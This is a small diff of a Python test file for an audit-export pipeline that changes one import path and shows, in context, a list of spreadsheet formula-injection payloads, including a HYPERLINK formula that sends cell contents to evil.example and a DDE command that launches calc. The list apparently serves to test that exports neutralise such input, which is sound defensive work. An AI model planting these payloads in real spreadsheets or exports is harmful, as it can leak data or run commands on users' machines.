@@ -9,7 +9,7 @@ import pytest
 
 from pipeline.review.audit import export_audit
 from pipeline.review.service import ReviewService
-from tests.conftest import paused_ids
+from tests.support import paused_ids
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
 
